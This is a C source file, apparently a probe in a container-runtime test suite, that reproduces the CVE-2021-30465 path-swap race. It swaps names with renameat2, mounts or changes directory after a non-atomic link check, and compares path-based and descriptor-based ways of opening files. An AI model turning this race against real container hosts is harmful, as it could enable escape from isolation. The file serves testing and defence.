/* The swap race (E7, CVE-2021-30465): the thread that swaps, and what a runtime that works by paths would do. */
#include "probe.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

/* exchange A B: swaps two names until it is killed. */
static int exchange(char **argv)
{
    puts("ready");
    fflush(stdout);
    for (;;)
        if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
            return perror("exchange"), 2;
}

static bool is_link(const char *path)
{
    struct stat status;
    return lstat(path, &status) < 0 || S_ISLNK(status.st_mode);
}

/* How many of ROUNDS end with status 10, each in a process of its own. */
static int count_wins(int rounds, int (*round)(char **), char **argv)
{
    int wins = 0;
    for (int i = 0; i < rounds; i++) {
        int status;
        pid_t pid = fork();
        if (pid == 0)
            _exit(round(argv));
        if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status) || WEXITSTATUS(status) > 10)
            return fprintf(stderr, "round %d: status %x\n", i, status), 2;
        wins += WEXITSTATUS(status) == 10;
    }
    return printf("outside %d\n", wins), 0;
}

/* Sees that PATH is no link, then mounts on it by its name. The mount ends with the process's own mount namespace. */
static int mount_round(char **argv)
{
    struct stat before, after;
    if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) < 0 || stat(argv[1], &before) < 0)
        return 20;
    if (is_link(argv[0]) || mount("tmpfs", argv[0], "tmpfs", 0, NULL) < 0)
        return 0;
    return stat(argv[1], &after) == 0 && after.st_dev != before.st_dev ? 10 : 0;
}

/* Sees that PATH is no link, then makes it the working directory, and does not look where that is. */
static int enter_round(char **argv)
{
    char path[4096];
    if (is_link(argv[0]) || chdir(argv[0]) < 0)
        return 0;
    return syscall(SYS_getcwd, path, sizeof path) > 0 && *path != '/' ? 10 : 0;
}

/* One look at DIRECTORY/NAME, each of four ways in turn: 2 what was read has MARK in it, 1 it has not, 0 refused. */
static int look(int way, const char *directory, const char *name, const char *mark)
{
    char path[4096], text[256] = "";
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int fd = -1, place = way % 4 ? open(directory, O_PATH | O_CLOEXEC) : -1;
    if (way % 4 == 0)
        fd = open(path, O_RDONLY | O_CLOEXEC);
    else if (way % 4 == 1)
        fd = openat(place, name, O_RDONLY | O_CLOEXEC);
    else if (way % 4 == 2 && fchdir(place) == 0)
        fd = open(name, O_RDONLY | O_CLOEXEC);
    else if (way % 4 == 3 && (snprintf(text, sizeof text, "/proc/self/fd/%d/%s", place, name), chdir("/") == 0))
        fd = open(text, O_RDONLY | O_CLOEXEC);
    *text = 0;
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (place >= 0)
        close(place);
    if (fd >= 0)
        close(fd);
    return length < 0 ? 0 : memmem(text, (size_t)length, mark, strlen(mark)) ? 2 : 1;
}

/* look ROUNDS DIRECTORY NAME MARK: reads a file whose directory is being swapped. Past the rounds it goes on until both ends were met. */
static int look_often(char **argv)
{
    long ends[3] = {0}, rounds = atol(argv[0]), most = rounds * 50;
    for (long i = 0; i < rounds || (i < most && (!ends[1] || !(ends[0] + ends[2]))); i++)
        ends[look((int)(i % 4), argv[1], argv[2], argv[3])]++;
    return printf("marked %ld other %ld refused %ld\n", ends[2], ends[1], ends[0]), 0;
}

static int join(const char *pid)
{
    const char *const names[] = {"pid", "mnt"};
    for (int i = 0; i < 2; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, names[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0 || setns(fd, 0) < 0)
            return perror(path), -1;
    }
    return 0;
}

int race_command(int argc, char **argv)
{
    if (!strcmp(argv[0], "exchange") && argc == 3)
        return exchange(argv + 1);
    if (!strcmp(argv[0], "look") && argc == 5)
        return look_often(argv + 1);
    if (!strcmp(argv[0], "mount") && argc == 4)
        return count_wins(atoi(argv[1]), mount_round, argv + 2);
    if (!strcmp(argv[0], "enter") && argc == 4)
        return join(argv[1]) < 0 ? 2 : count_wins(atoi(argv[2]), enter_round, argv + 3);
    return fprintf(stderr, "unknown race %s\n", argv[0]), 2;
}
